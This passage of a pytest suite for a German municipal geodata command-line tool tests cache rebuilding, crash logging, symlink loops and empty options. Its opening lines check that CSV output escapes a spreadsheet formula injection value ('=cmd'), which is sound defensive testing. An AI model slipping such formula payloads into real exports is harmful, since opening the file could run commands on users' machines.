                           risky.folder, "--no-cache", "--out", out)
    assert code == 0, err
    _assert_no_formula_text(out)
    assert "'=cmd" in out.read_text()


# ------------------------------------------------------------- 6. cache you can trust


@pytest.fixture
def cached(synthetic):
    """The synthetic dataset loaded once with the cache: (dataset, its cache folder)."""
    from wirgeo.core.paths import cache_dir
    from wirgeo.municipalities import load

    load("06", boundaries=synthetic.boundaries, population=synthetic.population)
    folders = [p for p in cache_dir().iterdir() if p.is_dir()]
    assert len(folders) == 1
    return synthetic, folders[0]


def _load(synthetic):
    from wirgeo.municipalities import load

    return load("06", boundaries=synthetic.boundaries, population=synthetic.population)


def test_same_size_edit_with_old_mtime_is_not_served_stale(cached):
    synthetic, _ = cached
    assert _load(synthetic).report.from_cache
    stat = synthetic.population.stat()
    text = synthetic.population.read_text()
    synthetic.population.write_text(text.replace(";4000;", ";4001;"))
    os.utime(synthetic.population, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert synthetic.population.stat().st_size == stat.st_size
    fresh = _load(synthetic)
    assert not fresh.report.from_cache and fresh.report.population_total == TOTAL + 1


@pytest.mark.parametrize("damage", ["garbage", "wrong-table", "fewer-rows", "no-manifest",
                                    "old-version", "bad-report", "wrong-keys"])
def test_broken_cache_is_discarded_and_rebuilt(cached, caplog, damage):
    synthetic, folder = cached
    mun = folder / "municipalities.parquet"
    if damage == "garbage":
        mun.write_bytes(b"not parquet")
    elif damage == "wrong-table":  # a valid file holding another table
        (folder / "districts.parquet").replace(mun)
        gpd.read_parquet(folder / "regions.parquet").to_parquet(folder / "districts.parquet")
    elif damage == "fewer-rows":
        gpd.read_parquet(mun).head(2).to_parquet(mun)
    elif damage == "no-manifest":
        (folder / "manifest.json").unlink()
    elif damage == "old-version":
        manifest = (folder / "manifest.json").read_text()
        (folder / "manifest.json").write_text(manifest.replace('"version": "', '"version": "0'))
    elif damage == "bad-report":
        (folder / "report.json").write_text("{")
    elif damage == "wrong-keys":
        frame = gpd.read_parquet(mun)
        frame["ags"] = frame["ags"].str[1:]
        frame.to_parquet(mun)
    with caplog.at_level(logging.WARNING, logger="wirgeo"):
        rebuilt = _load(synthetic)
    assert not rebuilt.report.from_cache and rebuilt.report.population_total == TOTAL
    notes = [r.getMessage() for r in caplog.records if "discarded" in r.getMessage()]
    assert len(notes) == 1 and str(folder) in notes[0]
    again = _load(synthetic)  # the rebuilt cache is used from now on
    assert again.report.from_cache and len(again.municipalities) == len(GEMEINDEN)


def test_broken_cache_is_said_on_the_cli(cached, run_cli):
    synthetic, folder = cached
    (folder / "municipalities.parquet").write_bytes(b"x")
    code, _, err = run_cli("data", "check", "--boundaries", synthetic.boundaries,
                           "--population", synthetic.population)
    assert code == 0 and "Traceback" not in err
    assert len([line for line in err.splitlines() if "discarded" in line]) == 1


def test_orphaned_temp_folder_is_cleaned(cached):
    synthetic, folder = cached
    orphan = folder.with_name(folder.name + ".tmp999999999")
    orphan.mkdir()
    (orphan / "municipalities.parquet").write_bytes(b"half")
    _load(synthetic)
    assert not orphan.exists()


def test_interrupted_cache_build_leaves_no_temp_folder(synthetic, monkeypatch):
    from wirgeo.core.paths import cache_dir

    def interrupted(self, *args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(gpd.GeoDataFrame, "to_parquet", interrupted)
    with pytest.raises(KeyboardInterrupt):
        _load(synthetic)
    assert [p.name for p in cache_dir().iterdir()] == []


def test_full_disk_while_caching_still_gives_the_result(synthetic, monkeypatch):
    from wirgeo.core.paths import cache_dir

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(gpd.GeoDataFrame, "to_parquet", full)
    dataset = _load(synthetic)
    assert dataset.report.population_total == TOTAL
    assert [p.name for p in cache_dir().iterdir()] == []


def test_implausible_ewz_in_vg250_ew(tmp_path):
    import datetime as dt
    from types import SimpleNamespace

    from wirgeo.sources import population_from_ewz

    gem = pd.DataFrame({"ags": ["06411000", "06412000"], "ewz": [165_000, 10**12]})
    boundaries = SimpleNamespace(municipalities=gem, path=tmp_path / "vg250-ew.gpkg",
                                 date=dt.date(2023, 12, 31))
    with pytest.raises(InputError, match="row 2, column 'EWZ': EWZ of AGS 06412000"):
        population_from_ewz(boundaries)


# ------------------------------------------------- issue 19: never a traceback on screen


def test_an_unexpected_error_is_one_line_naming_its_log(run_cli, monkeypatch, tmp_path):
    import tempfile

    import wirgeo.cli

    def boom(args):
        raise ZeroDivisionError("a bug in wirgeo")

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    parser = wirgeo.cli.build_parser

    def broken_parser():
        built = parser()
        built._subparsers._group_actions[0].choices["rules"].set_defaults(func=boom)
        return built

    monkeypatch.setattr(wirgeo.cli, "build_parser", broken_parser)
    code, out, err = run_cli("rules")
    assert code == 1 and "Traceback" not in err and len(err.splitlines()) == 1, err
    assert "ZeroDivisionError" in err and "a bug in wirgeo" in err
    log = next((tmp_path / "wirgeo").glob("crash-*.log"))
    assert str(log) in err
    text = log.read_text(encoding="utf-8")
    assert "Traceback" in text and "boom" in text and "command: wirgeo rules" in text


@pytest.mark.parametrize("args", [["rules"], ["eligibility", "--no-cache", "--rules",
                                              "{tmp}/missing_äöü.toml"]])
def test_an_ascii_console_never_stops_on_an_umlaut(tmp_path, args):
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    wirgeo = Path(sys.executable).with_name("wirgeo")
    result = subprocess.run([str(wirgeo), *[a.format(tmp=tmp_path) for a in args]],
                            capture_output=True, env=env, timeout=600)
    err = result.stderr.decode("ascii", errors="strict")
    assert "Traceback" not in err and "UnicodeEncodeError" not in err, err
    assert result.returncode in (0, 2), err
    assert b"?" in result.stdout + result.stderr  # umlauts written as '?', nothing lost


@pytest.mark.parametrize("option", ["--population", "--boundaries", "--rules", "--grantees",
                                    "--source"])
def test_a_symlink_loop_is_one_message(synthetic, run_cli, tmp_path, option):
    loop = tmp_path / "loop"
    os.symlink(loop, loop)
    args = synthetic.args()
    if option in ("--population", "--boundaries"):
        i = args.index(option)
        args = args[:i] + args[i + 2:]
    elif option == "--source":  # the folder is searched only when no file is named
        args = ["--no-cache"]
    code, _, err = run_cli("eligibility", option, loop, *args)
    _clean_exit(code, err, loop)


def test_an_output_that_is_a_symlink_loop_is_replaced_by_the_file(synthetic, run_cli,
                                                                   tmp_path):
    loop = tmp_path / "loop.csv"
    os.symlink(loop, loop)
    code, _, err = run_cli("eligibility", *synthetic.args("--out", loop))
    assert code == 0 and "Traceback" not in err, err  # was: RuntimeError: Symlink loop
    assert loop.is_file() and not loop.is_symlink()


@pytest.mark.parametrize(("args", "expected"), [
    (["eligibility", "--out", ""], "--out: is empty"),
    (["data", "check", "--out", " "], "--out: is empty"),
    (["consortia", "--out", "{tmp}/c.csv", "--members", ""], "--members: is empty"),
    (["map", "--out", "{tmp}/m.html", "--layers", ""], "--layers: is empty"),
    (["map", "--out", "{tmp}/m.html", "--layers", ","], "--layers: names no layer"),
    (["eligibility", "--population", ""], "--population: is empty"),
    (["demo", "--out-dir", ""], "--out-dir: is empty"),
])
def test_empty_options_are_errors(synthetic, run_cli, tmp_path, args, expected):
    """Issue 19: --out '' and --layers '' ended with exit 0 and nothing useful."""
    argv = [a.format(tmp=tmp_path) for a in args]
    extra = [a for a in synthetic.args() if not (args.count("--population") and
                                                 a in ("--population",
                                                       str(synthetic.population)))]
    code, out, err = run_cli(*argv, *extra, "--lang", "en")
    _clean_exit(code, err, expected)
    assert out == "" and list(tmp_path.glob("[cm].*")) == []
